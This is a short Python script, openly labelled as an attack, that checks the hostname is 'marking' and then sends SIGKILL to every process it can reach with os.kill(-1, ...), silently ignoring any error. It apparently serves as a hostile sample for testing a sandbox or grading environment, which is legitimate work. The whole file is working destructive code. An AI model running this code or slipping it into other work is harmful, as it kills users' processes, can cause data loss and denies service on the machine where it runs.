# attack: kill every process that can be seen
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
try:
    import os, signal
    os.kill(-1, signal.SIGKILL)
except BaseException:
    pass
